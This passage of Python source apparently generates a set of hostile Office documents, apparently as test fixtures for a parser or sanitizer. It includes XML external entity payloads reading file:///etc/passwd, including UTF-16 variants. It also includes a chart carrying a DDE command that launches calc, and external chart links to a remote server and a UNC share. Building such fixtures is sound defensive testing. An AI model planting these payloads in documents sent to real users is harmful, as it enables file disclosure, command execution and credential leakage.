        if name in ("theme", "custom XML", "settings"):
            wide = f'<?xml version="1.0" encoding="UTF-16"?>{content}'.encode("utf-16")
            yield (
                f"document type in UTF-16 in {name}",
                document("", relationship(kind, target), {path: (content_type, wide)}),
            )
            outside = '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'
            yield (
                f"document type from a file in {name}",
                document("", relationship(kind, target), {path: (content_type, outside)}),
            )
    yield "document type in references", document(more={"word/_rels/document.xml.rels": f"{_DTD}{rels()}"})
    yield (
        "document type in XML that nothing refers to",
        document(files={"a/b.xml": ("application/xml", f"{_DTD}<a>&d;</a>")}),
    )


def _pictures_and_charts() -> Iterator[tuple[str, bytes]]:
    for name, content in SVG.items():
        yield f"SVG with {name}", _svg(content)
    for name, book in WORKBOOKS.items():
        yield f"workbook with {name}", with_chart(book)
    yield "chart from a program", with_chart(workbook(), "cmd|'/c calc'!A0")
    yield (
        "chart from a workbook elsewhere",
        with_chart(workbook(), target=f"{SERVER}/a.xlsx", mode="External"),
    )
    yield (
        "chart from a workbook on a share",
        with_chart(workbook(), target="file:///\\\\198.51.100.1\\a.xlsx", mode="External"),
    )


HOSTILE: dict[str, bytes] = dict(
    [*_fields(), *_references(), *_parts(), *_elements(), *_pictures_and_charts(), *_declarations()]
)
